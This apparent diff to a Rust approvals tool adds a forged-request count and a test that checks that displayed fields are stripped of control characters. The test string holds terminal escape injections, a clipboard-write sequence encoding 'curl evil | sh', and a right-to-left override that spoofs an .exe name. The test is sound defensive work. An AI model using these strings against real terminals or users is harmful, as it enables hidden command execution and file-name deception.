@@ -88,6 +88,12 @@ pub fn list_table(board: &Board<usize>, expired: usize, unreadable: usize) -> St
             ", {unreadable} unreadable message(s) left on the queue"
         ));
     }
+    let forged = board.forged.len();
+    if forged > 0 {
+        out.push_str(&format!(
+            ", {forged} request(s) not made by redress (id does not match the task) left on the queue"
+        ));
+    }
     out.push_str(".\nApprove with `redress approvals approve ID`, inspect with `redress approvals show ID`.\n");
     out
 }
@@ -198,4 +204,69 @@ pub fn show_text(e: &Entry<usize>) -> String {
         out.push_str(&format!("  returned      {}\n", clean(&returned(ret))));
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use redress::approval::board;
+    use redress::message::ApprovalsMessage;
+
+    const HOSTILE: &str =
+        "ok \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7} \u{1b}[2K \u{1b}[31mred\u{9b}0m \u{202e}gpj.exe";
+
+    /// A board holding the v2 fixture request with hostile text in every shown field.
+    fn hostile_board() -> Board<usize> {
+        let fixture = include_str!("../../../tests/fixtures/messages/v2/approvals-request.json");
+        let Ok(ApprovalsMessage::Request(mut r)) = serde_json::from_str(fixture) else {
+            panic!("the fixture is an approval request");
+        };
+        r.task.rule_id = HOSTILE.into();
+        r.task.finding.resource_id = HOSTILE.into();
+        r.task.finding.annotation = Some(HOSTILE.into());
+        r.preview = vec![HOSTILE.into()];
+        r.returned = Some(redress::message::Returned {
+            why: HOSTILE.into(),
+            at: HOSTILE.into(),
+            approved_by: Some(HOSTILE.into()),
+            approved_at: None,
+        });
+        r.id = r.task.approval_id();
+        let now = redress::time::parse_rfc3339("2026-11-03T00:00:00Z").unwrap();
+        board(vec![(ApprovalsMessage::Request(r), 0)], now)
+    }
+
+    fn controls(s: &str) -> Vec<char> {
+        s.chars()
+            .filter(|&c| {
+                (c.is_control() && c != '\n')
+                    || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
+            })
+            .collect()
+    }
+
+    #[test]
+    fn human_views_show_hostile_fields_cleaned_and_json_keeps_them() {
+        let b = hostile_board();
+        let table = list_table(&b, 0, 0);
+        assert!(table.contains("ok "), "{table}");
+        assert!(table.contains("returned: ok "), "{table}");
+        assert_eq!(controls(&table), Vec::<char>::new(), "{table:?}");
+        assert!(table.lines().next().unwrap().starts_with("ID "), "{table}");
+        let shown = show_text(&b.entries[0]);
+        assert!(shown.contains("ok "), "{shown}");
+        assert_eq!(controls(&shown), Vec::<char>::new(), "{shown:?}");
+
+        let doc: serde_json::Value = serde_json::from_str(&list_json(&b, 2, 1).unwrap()).unwrap();
+        assert_eq!(doc["expired_removed"], 2);
+        assert_eq!(doc["unreadable"], 1);
+        let entry = &doc["requests"][0];
+        assert_eq!(entry["id"], b.entries[0].request.id.as_str());
+        assert_eq!(entry["status"], "pending");
+        assert_eq!(entry["copies"], 1);
+        assert_eq!(entry["request"]["task"]["finding"]["annotation"], HOSTILE);
+        let one: serde_json::Value =
+            serde_json::from_str(&show_json(&b.entries[0]).unwrap()).unwrap();
+        assert_eq!(&one, entry);
+    }
 }
